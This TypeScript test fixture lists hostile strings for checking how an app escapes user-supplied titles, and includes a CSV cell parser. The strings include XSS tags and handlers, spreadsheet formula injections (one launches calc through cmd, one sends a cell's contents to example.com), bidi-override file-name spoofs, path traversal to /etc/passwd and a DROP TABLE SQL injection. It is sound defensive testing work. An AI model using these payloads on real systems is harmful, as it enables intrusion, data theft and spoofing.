/** Texts that become something else wherever one forgets that they are text. */
export interface HostileText {
  /** What it attacks, and how a test finds it. */
  readonly name: string;
  readonly text: string;
}

const controls = (...points: readonly number[]): string => String.fromCodePoint(...points);
const RLO = controls(0x202e);
const PDF = controls(0x202c);
const [LRI, RLI, FSI, PDI] = [0x2066, 0x2067, 0x2068, 0x2069].map((point) => controls(point)) as [
  string,
  string,
  string,
  string,
];

/** No line breaks: a title can be any of them. */
export const HOSTILE_TEXTS: readonly HostileText[] = [
  { name: 'script', text: '<script>window.broken=1</script>' },
  { name: 'script with case', text: '<ScRiPt>window.broken=1</sCrIpT>' },
  { name: 'image handler', text: '<img src=x onerror="window.broken=1">' },
  { name: 'image handler without quotes', text: '<img/src=x/onerror=window.broken=1>' },
  { name: 'svg handler', text: '<svg onload=window.broken=1>' },
  { name: 'frame', text: '<iframe srcdoc="<script>parent.broken=1</script>"></iframe>' },
  { name: 'object', text: '<object data="javascript:window.broken=1"></object>' },
  { name: 'style', text: '<style>*{display:none}</style>' },
  { name: 'base', text: '<base href="https://example.com/">' },
  { name: 'meta refresh', text: '<meta http-equiv="refresh" content="0;url=https://example.com">' },
  { name: 'link', text: '<a href="javascript:window.broken=1">click</a>' },
  { name: 'bare script address', text: 'javascript:window.broken=1' },
  { name: 'data address', text: 'data:text/html,<script>window.broken=1</script>' },
  { name: 'markup that ends one', text: '"><img src=x onerror=window.broken=1><"' },
  { name: 'attribute', text: '" onmouseover="window.broken=1" x="' },
  { name: 'closing tags', text: '</textarea></option></select></div></script><b>bold</b>' },
  { name: 'comment', text: '<!-- hidden --> shown <!--' },
  { name: 'character data', text: '<![CDATA[ x ]]>' },
  { name: 'entities', text: '&lt;b&gt; &amp;amp; &#60;i&#62; &nbsp;' },
  { name: 'template', text: '${window.broken=1} #{1} <%= 1 %> [[x]]' },
  { name: 'braces of other engines', text: '{% if x %} }} { x } {{' },
  { name: 'markdown', text: '**bold** [link](javascript:alert) ![x](x) `code`' },
  { name: 'formula', text: '=1+1' },
  { name: 'formula that runs', text: "=cmd|' /C calc'!A0" },
  { name: 'formula that sends', text: '=HYPERLINK("https://example.com?"&A1,"x")' },
  { name: 'formula with plus', text: '+1+1' },
  { name: 'formula with minus', text: '-1+1' },
  { name: 'formula with at', text: '@SUM(1,1)' },
  { name: 'formula in full width', text: '＝1+1' },
  { name: 'apostrophe', text: "'=1+1" },
  { name: 'quotes and commas', text: 'a "b", \'c\'; d,"' },
  { name: 'override', text: `abc ${RLO}fed${PDF} ghi` },
  { name: 'override without an end', text: `never ending ${RLO}txt.exe` },
  { name: 'isolates', text: `${LRI}left${PDI} ${RLI}right${PDI} ${FSI}first${PDI}` },
  { name: 'isolate without an end', text: `open ${RLI}isolate` },
  { name: 'arabic', text: 'مرحبا 123 (abc) بكم' },
  { name: 'hebrew with numbers', text: 'שלום 5 > 3 < 7' },
  { name: 'zero width', text: `a${controls(0x200b)}b${controls(0x200d)}c${controls(0xfeff)}d` },
  { name: 'combining marks', text: `Z${'\u0335\u0322\u0321\u0348'.repeat(12)}algo` },
  { name: 'family', text: '👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇩🇪 👍🏽' },
  { name: 'long word', text: 'W'.repeat(110) },
  { name: 'wide character', text: '﷽﷽﷽ ｗｉｄｅ' },
  { name: 'path', text: '../../etc/passwd%00.txt' },
  { name: 'query', text: "'; DROP TABLE response; --" },
  { name: 'prototype', text: '__proto__ constructor toString' },
  { name: 'pattern', text: '(a+)+$ .* [ \\ ^$?' },
  { name: 'numbers that are not', text: 'NaN -0 1e309 Infinity' },
  { name: 'nothing', text: 'null undefined false 0' },
];

/** Cells of a CSV file as a spreadsheet reads them (RFC 4180). */
export function cellsOf(csv: string): readonly (readonly string[])[] {
  const rows: string[][] = [[]];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r?\n|$)/gy;
  const text = csv.replace(/^\uFEFF/, '');
  for (let match = cell.exec(text); match !== null && match[0] !== ''; match = cell.exec(text)) {
    const [, quoted, plain = '', end] = match;
    rows.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end !== ',' && end !== '') rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}
